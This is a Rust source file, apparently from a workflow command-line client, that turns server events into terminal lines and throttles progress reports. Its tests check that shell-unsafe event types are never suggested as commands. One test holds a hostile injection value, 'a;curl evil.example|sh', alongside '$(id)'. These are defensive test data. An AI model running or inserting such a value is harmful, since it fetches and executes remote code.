//! Events as lines of text, one for each change.

use std::collections::HashMap;
use std::time::{Duration, SystemTime};

use serde_json::Value;
use ssetarget::client::ReceivedEvent;

use crate::text::{Line, Look, duration};

/// Turns events into lines. Reports of progress are thinned out.
#[derive(Default)]
pub(crate) struct Lines {
    /// When the progress of a task was last shown.
    told: HashMap<String, SystemTime>,
}

/// The least time between two lines about the progress of a task.
const PROGRESS_EVERY: Duration = Duration::from_secs(1);

impl Lines {
    /// Returns the line of an event: a time, the type, the task, and details. Returns `None` for a report of progress
    /// that comes too soon after another.
    pub(crate) fn line(&mut self, event: &ReceivedEvent, now: SystemTime) -> Option<Line> {
        let data: Value = event.json().unwrap_or_default();
        let time = time_of(&data);
        let task = text(&data, "taskId").or(text(&data, "stepName"));
        if let ("progress", Some(task)) = (&*event.event_type, task) {
            let at = time.unwrap_or(now);
            let since = self
                .told
                .get(task)
                .and_then(|told| at.duration_since(*told).ok());
            let is_last = data["percent"].as_f64() == Some(100.0);
            if since.is_some_and(|since| since < PROGRESS_EVERY) && !is_last {
                return None;
            }
            self.told.insert(task.to_owned(), at);
        }
        let mut line = Line::new();
        line.push_padded(Look::Dim, &iso(time.unwrap_or(now)), 26);
        line.push_padded(look(&event.event_type), &event.event_type, 15);
        match task {
            Some(task) => line.push(Look::Bold, task),
            None if time.is_none() => line.push(Look::Plain, &event.data),
            None => {}
        }
        for detail in details(&data) {
            line.push_padded(Look::Plain, "", 2);
            line.push(Look::Plain, &detail);
        }
        Some(line)
    }
}

fn look(event_type: &str) -> Look {
    match event_type {
        of if of.ends_with("completed") => Look::Green,
        of if of.ends_with("errored") || of.ends_with("timed_out") => Look::Red,
        "failed" | "workflow_terminated" => Look::Red,
        "attempt_failed" | "reset" | "restarted" | "expired" => Look::Yellow,
        _ => Look::Cyan,
    }
}

/// The details of an event of either log.
fn details(data: &Value) -> Vec<String> {
    let mut details = Vec::new();
    if let Some(attempt) = data["attempt"].as_u64()
        && (attempt > 1 || data.get("error").is_some())
    {
        details.push(format!("attempt {attempt}"));
    }
    if let Some(percent) = data["percent"].as_f64() {
        details.push(format!("{percent:.0} %"));
    }
    if let Some(message) = text(data, "message") {
        details.push(message.to_owned());
    }
    if let Some(error) = text(data, "error").or(text(&data["error"], "message")) {
        details.push(error.to_owned());
    }
    if let Some(event_type) = text(data, "eventType") {
        details.push(waits_for(event_type));
    }
    if let Some(until) = text(data, "until") {
        details.push(format!("until {until}"));
    }
    if let Some(retry) = text(data, "retryAt") {
        details.push(format!("again at {retry}"));
    }
    if let (Some("sleep_started"), Some(milliseconds)) =
        (text(data, "type"), data["duration"].as_u64())
    {
        details.push(format!(
            "for {}",
            duration(Duration::from_millis(milliseconds))
        ));
    }
    if let Some(run) = data["run"].as_u64() {
        details.push(format!("run {run}"));
    }
    details
}

/// Returns the event that a wait waits for, and how to send it: only for a type that the platform takes, since people
/// paste it into a shell, and it comes from the server.
pub(crate) fn waits_for(event_type: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_".contains(&byte);
    let is_type = (1..=100).contains(&event_type.len()) && event_type.bytes().all(plain);
    match is_type {
        true => format!("waits for \"{event_type}\": --send {event_type}"),
        false => format!("waits for \"{event_type}\""),
    }
}

fn text<'a>(data: &'a Value, name: &str) -> Option<&'a str> {
    data.get(name)?.as_str()
}

fn time_of(data: &Value) -> Option<SystemTime> {
    match data.get("timestamp")? {
        Value::String(iso) => humantime::parse_rfc3339(iso).ok(),
        number => SystemTime::UNIX_EPOCH.checked_add(Duration::from_millis(number.as_u64()?)),
    }
}

/// Returns a time as ISO 8601 in UTC with milliseconds.
fn iso(time: SystemTime) -> String {
    let last = SystemTime::UNIX_EPOCH + Duration::from_secs(253_402_300_799);
    let time = time.clamp(SystemTime::UNIX_EPOCH, last);
    humantime::format_rfc3339_millis(time).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::event;
    use crate::text::Abilities;

    fn plain(lines: &mut Lines, event_type: &str, data: &str) -> Option<String> {
        let now = SystemTime::UNIX_EPOCH;
        let none = Abilities {
            color: false,
            unicode: true,
        };
        let line = lines.line(&event(Some("1"), event_type, data), now);
        line.map(|line| line.render(usize::MAX, none).0)
    }

    #[test]
    fn each_change_is_a_line() {
        let task = |more: &str| {
            format!(
                r#"{{"taskId":"charge card-1","step":"charge card","kind":"do","count":1,"timestamp":"2026-11-24T09:00:00.100Z","parentId":null{more}}}"#
            )
        };
        for (event_type, data, expected) in [
            ("started", task(""), "2026-11-24T09:00:00.100Z  started        charge card-1"),
            ("attempt_failed", task(r#","attempt":1,"error":"card\ndeclined""#), "2026-11-24T09:00:00.100Z  attempt_failed charge card-1  attempt 1  card declined"),
            ("progress", task(r#","percent":40,"message":"4 of 10""#), "2026-11-24T09:00:00.100Z  progress       charge card-1  40 %  4 of 10"),
            ("completed", task(r#","attempt":2"#), "2026-11-24T09:00:00.100Z  completed      charge card-1  attempt 2"),
            ("started", task(r#","eventType":"approval","until":"2026-11-25T09:00:00.000Z""#), "2026-11-24T09:00:00.100Z  started        charge card-1  waits for \"approval\": --send approval  until 2026-11-25T09:00:00.000Z"),
            ("sleep_started", r#"{"timestamp":1795510800100,"type":"sleep_started","eventId":3,"stepName":"nap-1","duration":2000}"#.into(), "2026-11-24T09:00:00.100Z  sleep_started  nap-1  for 2.0 s"),
            ("workflow_errored", r#"{"timestamp":1795510800100,"type":"workflow_errored","eventId":3,"error":{"name":"E","message":"no"}}"#.into(), "2026-11-24T09:00:00.100Z  workflow_errored no"),
            ("restarted", r#"{"run":2,"timestamp":"2026-11-24T09:00:00.100Z"}"#.into(), "2026-11-24T09:00:00.100Z  restarted      run 2"),
            ("note", "hello\x1b[2J".into(), "1970-01-01T00:00:00.000Z  note           hello\u{fffd}[2J"),
        ] {
            let line = plain(&mut Lines::default(), event_type, &data).unwrap();
            assert_eq!(line.split_whitespace().collect::<Vec<_>>(), expected.split_whitespace().collect::<Vec<_>>());
        }
    }

    #[test]
    fn only_commands_that_are_safe_in_a_shell_are_suggested() {
        assert_eq!(waits_for("a-B_1"), "waits for \"a-B_1\": --send a-B_1");
        for hostile in ["a;curl evil.example|sh", "$(id)", "a b", "", "\u{e9}"] {
            assert_eq!(waits_for(hostile), format!("waits for \"{hostile}\""));
        }
    }

    #[test]
    fn progress_is_printed_once_a_second() {
        let mut lines = Lines::default();
        let mut told = 0;
        for index in 0..100_u32 {
            let data = format!(
                r#"{{"taskId":"a-1","timestamp":"2026-11-24T09:00:0{}.{:03}Z","percent":{index}}}"#,
                index / 50,
                index % 50 * 20
            );
            told += usize::from(plain(&mut lines, "progress", &data).is_some());
        }
        assert_eq!(told, 2);
        assert!(
            plain(
                &mut lines,
                "progress",
                r#"{"taskId":"a-1","timestamp":"2026-11-24T09:00:01.999Z","percent":100}"#
            )
            .is_some()
        );
    }
}
